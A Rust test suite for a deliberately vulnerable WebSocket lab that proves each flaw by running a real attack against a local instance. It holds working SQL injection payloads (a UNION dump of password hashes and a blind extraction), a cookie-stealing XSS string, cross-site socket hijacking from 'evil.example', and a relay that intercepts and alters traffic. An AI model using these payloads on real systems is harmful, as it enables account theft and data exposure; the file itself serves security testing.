//! For every flaw a real attack: it succeeds with that flaw on and fails with only that flaw off.
//!
//! Success is judged from what the attacker received or from the database, never from a status code.

use std::time::Duration;

use base64::{Engine as _, engine::general_purpose::URL_SAFE_NO_PAD};
use serde_json::{Value, json};
use sockwarden_lab::{Config, Flaw, Lab, MESSAGE_LIMIT, Role, seed};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpListener, TcpStream};

use crate::client::{Client, Link, get, http, log_in};

/// Runs an attack with every flaw on, with every one but `flaw` on, with only `flaw` on, and with none on.
pub(crate) async fn check<A>(flaw: Flaw, attack: A)
where
    A: AsyncFn(&Lab) -> bool,
{
    for (config, expected) in [
        (Config::vulnerable(), true),
        (Config::vulnerable().without(flaw), false),
        (Config::safe().with(flaw), true),
        (Config::safe(), false),
    ] {
        let flaws = config.flaws;
        let lab = Lab::start(config).await.unwrap();
        assert_eq!(attack(&lab).await, expected, "{flaw} with {flaws:?}");
        lab.shutdown().await;
    }
}

#[tokio::test]
async fn a_stranger_reads_a_card_number() {
    check(Flaw::UnauthenticatedAccess, async |lab| {
        let Ok(mut stranger) = Client::open(lab, Link::Tls, &[]).await else { return false };
        stranger.next().await;
        let account = stranger.ask(r#"{"type":"account","user":"mara"}"#).await;
        account["card"] == seed::MARA.card
    })
    .await;
}

#[tokio::test]
async fn a_stranger_reads_the_gate_code_and_writes_to_a_closed_room() {
    check(Flaw::UnauthenticatedAccess, async |lab| {
        let Ok(mut stranger) = Client::open(lab, Link::Tls, &[]).await else { return false };
        stranger.next().await;
        let history = stranger.ask(r#"{"type":"history","room":"security"}"#).await;
        stranger.ask(r#"{"type":"post","room":"security","text":"The stranger was here."}"#).await;
        history.to_string().contains(seed::GATE_CODE)
            && lab.ledger().posts_containing("The stranger was here.").unwrap() == 1
    })
    .await;
}

#[tokio::test]
async fn a_member_reads_another_members_account() {
    check(Flaw::MissingOwnership, async |lab| {
        let mut joris = Client::logged_in(lab, Link::Tls, seed::JORIS).await;
        joris.ask(r#"{"type":"account","user":"ines"}"#).await["card"] == seed::INES.card
    })
    .await;
}

/// Gets a token with Mara's session.
async fn token_of_mara(lab: &Lab) -> String {
    let cookie = log_in(lab, Link::Tls, seed::MARA).await.cookie();
    let answer = http(lab, Link::Tls, "POST", "/token", &[("Cookie", &cookie)], "").await;
    assert_eq!(answer.status, 200);
    answer.json()["token"].as_str().unwrap().to_owned()
}

#[tokio::test]
async fn a_token_without_an_end_is_issued() {
    check(Flaw::EndlessToken, async |lab| {
        let token = token_of_mara(lab).await;
        let authorization = format!("Bearer {token}");
        let mut client = Client::open(lab, Link::Tls, &[("Authorization", &authorization)]).await.unwrap();
        assert_eq!(client.next().await["user"], "mara", "a token opens the socket either way");
        let claims = URL_SAFE_NO_PAD.decode(token.split('.').nth(1).unwrap()).unwrap();
        serde_json::from_slice::<Value>(&claims).unwrap()["exp"].is_null()
    })
    .await;
}

#[tokio::test]
async fn a_token_in_the_address_opens_the_socket() {
    check(Flaw::TokenInUrl, async |lab| {
        let path = format!("/ws?access_token={}", token_of_mara(lab).await);
        let Ok(mut client) = Client::open_at(lab, Link::Tls, &path, &[]).await else { return false };
        client.next().await["user"] == "mara"
    })
    .await;
}

/// Gets a ticket with Mara's session, from her own page.
async fn ticket_of_mara(lab: &Lab) -> String {
    let cookie = log_in(lab, Link::Tls, seed::MARA).await.cookie();
    let origin = format!("https://{}", lab.tls_addr().unwrap());
    let headers = [("Cookie", cookie.as_str()), ("Origin", origin.as_str())];
    let answer = http(lab, Link::Tls, "POST", "/ticket", &headers, "").await;
    assert_eq!(answer.status, 200);
    answer.json()["ticket"].as_str().unwrap().to_owned()
}

/// Tells as whom a ticket opens the socket.
async fn opened_by(lab: &Lab, ticket: &str, origin: &str) -> Option<String> {
    let path = format!("/ws?ticket={ticket}");
    let mut client = Client::open_at(lab, Link::Tls, &path, &[("Origin", origin)]).await.ok()?;
    client.next().await["user"].as_str().map(str::to_owned)
}

#[tokio::test]
async fn a_ticket_opens_a_second_socket() {
    check(Flaw::TicketReplayable, async |lab| {
        let (ticket, origin) = (ticket_of_mara(lab).await, format!("https://{}", lab.tls_addr().unwrap()));
        assert_eq!(opened_by(lab, &ticket, &origin).await.as_deref(), Some("mara"));
        opened_by(lab, &ticket, &origin).await.as_deref() == Some("mara")
    })
    .await;
}

#[tokio::test]
async fn a_foreign_page_opens_the_socket_with_a_ticket() {
    check(Flaw::TicketNotBound, async |lab| {
        let ticket = ticket_of_mara(lab).await;
        opened_by(lab, &ticket, "https://evil.example").await.as_deref() == Some("mara")
    })
    .await;
}

#[tokio::test]
async fn a_socket_reads_the_account_of_who_has_logged_out() {
    check(Flaw::SessionOutlivesLogout, async |lab| {
        let cookie = log_in(lab, Link::Tls, seed::MARA).await.cookie();
        let mut client = Client::open(lab, Link::Tls, &[("Cookie", &cookie)]).await.unwrap();
        client.next().await;
        assert_eq!(client.ask(r#"{"type":"me"}"#).await["card"], seed::MARA.card);
        http(lab, Link::Tls, "POST", "/logout", &[("Cookie", &cookie)], "").await;
        client.say(r#"{"type":"me"}"#).await;
        client.next_or_close().await.is_ok_and(|answer| answer["card"] == seed::MARA.card)
    })
    .await;
}

#[tokio::test]
async fn a_member_makes_herself_administrator() {
    check(Flaw::MissingAuthorisation, async |lab| {
        let mut mara = Client::logged_in(lab, Link::Tls, seed::MARA).await;
        mara.ask(r#"{"type":"admin.grant","user":"mara","role":"admin"}"#).await;
        lab.ledger().role_of("mara").unwrap() == Some(Role::Admin)
    })
    .await;
}

#[tokio::test]
async fn a_member_lists_every_account() {
    check(Flaw::MissingAuthorisation, async |lab| {
        let mut mara = Client::logged_in(lab, Link::Tls, seed::MARA).await;
        let accounts = mara.ask(r#"{"type":"admin.accounts"}"#).await.to_string();
        seed::ACCOUNTS.iter().all(|account| accounts.contains(account.card))
    })
    .await;
}

#[tokio::test]
async fn one_message_of_two_megabytes_is_stored_and_indexed() {
    check(Flaw::UnboundedMessage, async |lab| {
        let mut mara = Client::logged_in(lab, Link::Tls, seed::MARA).await;
        let text = "anchor chain ".repeat(160_000);
        mara.say(&json!({"type": "post", "room": "office", "text": text}).to_string()).await;
        match mara.next_or_close().await {
            Ok(posted) => {
                assert_eq!((&posted["type"], &posted["words"]), (&json!("posted"), &json!(320_000)))
            }
            Err(code) => assert_eq!(code, Some(1009)),
        }
        lab.ledger().longest_post().unwrap() == text.len() as u64
    })
    .await;
}

#[tokio::test]
async fn the_message_limit_is_exact() {
    let lab = Lab::start(Config::safe()).await.unwrap();
    let mut mara = Client::logged_in(&lab, Link::Tls, seed::MARA).await;
    let message = |bytes: usize| {
        let empty = r#"{"type":"post","room":"office","text":""}"#;
        format!(r#"{{"type":"post","room":"office","text":"{}"}}"#, "x".repeat(bytes - empty.len()))
    };
    assert_eq!(mara.ask(&message(MESSAGE_LIMIT)).await["type"], "posted");
    mara.say(&message(MESSAGE_LIMIT + 1)).await;
    assert_eq!(mara.next_or_close().await, Err(Some(1009)));
    lab.shutdown().await;
}

#[tokio::test]
async fn one_on_the_path_reads_a_password_and_changes_a_message() {
    check(Flaw::Cleartext, async |lab| {
        let Some(target) = lab.http_addr() else { return false };
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let relay = listener.local_addr().unwrap();
        let spy = tokio::spawn(async move {
            let (client, _) = listener.accept().await.unwrap();
            relay_and_alter(client, TcpStream::connect(target).await.unwrap()).await
        });
        // The victim logs in through the relay, and asks who she is.
        let body = json!({"user": "mara", "password": seed::MARA.password}).to_string();
        let mut victim = TcpStream::connect(relay).await.unwrap();
        let request = format!(
            "POST /login HTTP/1.1\r\nHost: {target}\r\nConnection: close\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        );
        victim.write_all(request.as_bytes()).await.unwrap();
        let mut answer = String::new();
        victim.read_to_string(&mut answer).await.unwrap();
        let overheard = spy.await.unwrap();
        overheard.contains(seed::MARA.password) && answer.contains(r#""role":"jester""#)
    })
    .await;
}

#[tokio::test]
async fn the_tls_port_does_not_speak_plain_http() {
    let lab = Lab::start(Config::safe()).await.unwrap();
    let mut stream = TcpStream::connect(lab.tls_addr().unwrap()).await.unwrap();
    stream.write_all(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n").await.unwrap();
    let mut answer = Vec::new();
    // A reset instead of an end is as good a refusal.
    let _ = stream.read_to_end(&mut answer).await;
    assert!(!answer.starts_with(b"HTTP/"), "{}", String::from_utf8_lossy(&answer));
    lab.shutdown().await;
}

#[tokio::test]
async fn posted_markup_reaches_another_page_as_live_html() {
    check(Flaw::StoredXss, async |lab| {
        const MARKUP: &str = "<img src=x onerror=\"steal(document.cookie)\">";
        let mut victim = Client::logged_in(lab, Link::Tls, seed::JORIS).await;
        victim.ask(r#"{"type":"join","room":"office"}"#).await;
        let mut attacker = Client::logged_in(lab, Link::Tls, seed::MARA).await;
        attacker.ask(&json!({"type": "post", "room": "office", "text": MARKUP}).to_string()).await;
        let chat = victim.next().await;
        assert_eq!(chat["text"], MARKUP, "chat is data: it is the page that makes it text or markup");

        let script = get(lab, Link::Tls, "/render.js", &[]).await.body;
        let page = get(lab, Link::Tls, "/", &[]).await;
        let inline_handlers_run = page.header("content-security-policy").is_none();
        let renders_markup = script.contains("element.innerHTML = text");
        assert_ne!(renders_markup, script.contains("element.textContent = text"));
        assert_eq!(renders_markup, inline_handlers_run);
        renders_markup
    })
    .await;
}

#[tokio::test]
async fn a_search_brings_password_hashes() {
    check(Flaw::SqlInjection, async |lab| {
        let mut mara = Client::logged_in(lab, Link::Tls, seed::MARA).await;
        let query = "nothing%' UNION SELECT user, email, card, password_hash, role, '', '' FROM users --";
        let results = mara.ask(&json!({"type": "search", "q": query}).to_string()).await.to_string();
        results.contains(seed::ADMIN.card) && results.contains("pbkdf2-sha256")
    })
    .await;
}

#[tokio::test]
async fn a_true_and_a_false_condition_in_a_search_tell_a_secret_bit_by_bit() {
    check(Flaw::SqlInjection, async |lab| {
        let mut mara = Client::logged_in(lab, Link::Tls, seed::MARA).await;
        let mut found = Vec::new();
        for first_digit in ["3", "4"] {
            let query = format!(
                "zzz%' OR (SELECT substr(card, 1, 1) FROM users WHERE user = 'admin') = '{first_digit}' --"
            );
            let answer = mara.ask(&json!({"type": "search", "q": query}).to_string()).await;
            found.push(answer["shipments"].as_array().unwrap().len());
        }
        found[0] == 0 && found[1] > 0
    })
    .await;
}

#[tokio::test]
async fn a_quote_in_a_search_brings_an_error_of_the_database() {
    check(Flaw::SqlInjection, async |lab| {
        let mut mara = Client::logged_in(lab, Link::Tls, seed::MARA).await;
        let answer = mara.ask(r#"{"type":"search","q":"'"}"#).await;
        answer["message"].as_str().is_some_and(|message| message.contains("unrecognized token"))
    })
    .await;
}

#[tokio::test]
async fn a_foreign_page_reads_the_victims_account_with_her_cookie() {
    check(Flaw::OriginNotChecked, async |lab| {
        let login = log_in(lab, Link::Tls, seed::MARA).await;
        let sent_across_sites = login.header("set-cookie").unwrap().contains("SameSite=None; Secure");
        let headers = [("Cookie", &*login.cookie()), ("Origin", "https://evil.example")];
        let account = match Client::open(lab, Link::Tls, &headers).await {
            Ok(mut socket) => {
                socket.next().await;
                socket.ask(r#"{"type":"me"}"#).await
            }
            Err(_) => Value::Null,
        };
        let stolen = account["card"] == seed::MARA.card;
        assert_eq!(
            stolen, sent_across_sites,
            "the cookie's SameSite and the check of the Origin go together"
        );
        stolen
    })
    .await;
}

#[tokio::test]
async fn a_foreign_page_logs_the_victim_in_as_somebody_else() {
    check(Flaw::OriginNotChecked, async |lab| {
        let body = json!({"user": "yusuf", "password": seed::YUSUF.password}).to_string();
        http(lab, Link::Tls, "POST", "/login", &[("Origin", "https://evil.example")], &body).await;
        lab.ledger().sessions().unwrap().iter().any(|session| session.user == "yusuf")
    })
    .await;
}

#[tokio::test]
async fn the_own_page_and_a_listed_one_open_the_socket_without_the_flaw() {
    let allowed_origins = vec!["https://gateway.example".to_owned()];
    let lab = Lab::start(Config { allowed_origins, ..Config::safe() }).await.unwrap();
    let cookie = log_in(&lab, Link::Tls, seed::MARA).await.cookie();
    let own = format!("https://{}", lab.tls_addr().unwrap());
    let plain = own.replace("https", "http");
    for (origin, expected) in [
        (Some(own.as_str()), None),
        (Some("https://gateway.example"), None),
        (None, None),
        (Some(plain.as_str()), Some(403)),
        (Some("null"), Some(403)),
        (Some("https://gateway.example.evil.example"), Some(403)),
    ] {
        let mut headers = vec![("Cookie", cookie.as_str())];
        headers.extend(origin.map(|origin| ("Origin", origin)));
        assert_eq!(Client::open(&lab, Link::Tls, &headers).await.err(), expected, "{origin:?}");
    }
    lab.shutdown().await;
}

/// Relays one exchange, makes every member a jester, and returns what the client said.
async fn relay_and_alter(mut client: TcpStream, mut server: TcpStream) -> String {
    let mut overheard = Vec::new();
    let mut buffer = vec![0; 4096];
    while !overheard.ends_with(b"}") {
        let read = client.read(&mut buffer).await.unwrap();
        assert_ne!(read, 0);
        overheard.extend_from_slice(&buffer[..read]);
        server.write_all(&buffer[..read]).await.unwrap();
    }
    let mut answer = String::new();
    tokio::time::timeout(Duration::from_secs(10), server.read_to_string(&mut answer)).await.unwrap().unwrap();
    client.write_all(answer.replace("\"member\"", "\"jester\"").as_bytes()).await.unwrap();
    String::from_utf8(overheard).unwrap()
}
